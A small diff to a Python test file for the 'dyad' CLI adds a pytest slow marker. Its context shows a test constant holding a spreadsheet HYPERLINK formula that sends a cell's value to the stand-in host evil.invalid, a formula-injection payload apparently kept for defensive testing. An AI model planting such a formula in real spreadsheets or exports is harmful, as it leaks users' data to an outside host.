@@ -22,6 +22,9 @@ from dyad.store.db import Store
 
 runner = CliRunner()
 
+# the CLI and the report over coded stores
+pytestmark = pytest.mark.slow
+
 FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'
 
 
